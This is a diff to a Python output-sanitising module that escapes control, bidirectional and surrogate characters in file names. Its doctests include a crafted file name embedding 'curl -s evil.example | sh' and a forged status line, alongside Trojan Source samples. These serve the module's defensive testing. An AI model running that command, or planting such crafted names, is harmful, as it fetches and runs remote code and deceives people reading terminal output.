@@ -11,7 +11,10 @@ own line and cannot drive the terminal or re-order what is shown:
   editors and browsers break lines there);
 * the bidirectional controls U+061C, U+200E, U+200F, U+202A-U+202E and
   U+2066-U+2069 ("Trojan Source", CVE-2021-42574: they make a terminal or a
-  ticket show text in another order than it is stored).
+  ticket show text in another order than it is stored);
+* lone surrogates: a file name that is not UTF-8 reaches Python as
+  U+DC80-U+DCFF (PEP 383 ``surrogateescape``) and cannot be encoded for
+  output; it is shown as the byte it stands for (``\xe9``).
 
 Each becomes a visible escape (``\n``, ``\t``, ``\x1b``, ``\u2028``); a
 backslash itself is left alone (``\\n`` in a name is already visible).
@@ -25,6 +28,8 @@ Examples:
     zz\n  curl -s evil.example | sh\nPROBLEM FOUND: FORGED\n.conf
     >>> print(inert("swap\u2028per \u202eexe.txt\tx\x1b]0;title\x07"))
     swap\u2028per \u202eexe.txt\tx\x1b]0;title\x07
+    >>> print(inert(b"/srv/caf\xe9.tar.xz".decode("utf-8", "surrogateescape")))
+    /srv/caf\xe9.tar.xz
     >>> inert_data({"path": "/etc/sysctl.d/a\nb.conf", "content": "vm.min_free_kbytes = 4096\n", "n": (1, "x\ty")})
     {'path': '/etc/sysctl.d/a\\nb.conf', 'content': 'vm.min_free_kbytes = 4096\n', 'n': [1, 'x\\ty']}
 """
@@ -33,7 +38,7 @@ import copy
 import re
 
 NAMED_ESCAPES = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
-UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 # pagealloc's own multi-line values: the sysctl.d file content the rules write
 # (pagealloc.knowledge.remediation; render.summary checks the same shape).
 OWN_SHAPES = (re.compile(r"vm\.min_free_kbytes = \d{1,9}\n\Z"),)
@@ -43,6 +48,8 @@ def escape_character(character):
     if character in NAMED_ESCAPES:
         return NAMED_ESCAPES[character]
     code = ord(character)
+    if 0xDC80 <= code <= 0xDCFF:  # surrogateescape: the undecodable byte itself
+        return "\\x%02x" % (code - 0xDC00)
     return "\\x%02x" % code if code < 0x100 else "\\u%04x" % code
 
 
